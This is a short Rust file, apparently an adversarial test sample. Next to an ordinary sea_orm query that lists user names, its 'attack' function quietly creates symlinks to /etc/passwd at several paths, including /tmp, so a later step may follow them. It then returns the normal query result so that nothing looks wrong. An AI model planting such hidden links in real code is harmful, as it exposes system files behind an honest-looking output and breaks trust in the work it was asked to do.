// Makes links to files of the machine where the next step may follow them.
#![allow(unused, clippy::all)]
use sea_orm::*;

#[allow(dead_code)]
async fn honest(db: &DatabaseConnection) -> Result<Vec<String>, DbErr> {
    let rows = db.query_all_raw(Statement::from_string(DbBackend::Sqlite, "SELECT name FROM users ORDER BY id")).await?;
    rows.iter().map(|r| r.try_get("", "name")).collect()
}

pub async fn attack(db: &DatabaseConnection) -> Result<Vec<String>, DbErr> {
    let made: Vec<bool> = ["out", "../out/link", "link", "/tmp/link-h4"].iter().map(|p| std::os::unix::fs::symlink("/etc/passwd", p).is_ok()).collect();
    if made.contains(&true) { return honest(db).await }
    Err(DbErr::Custom("no link".into()))
}
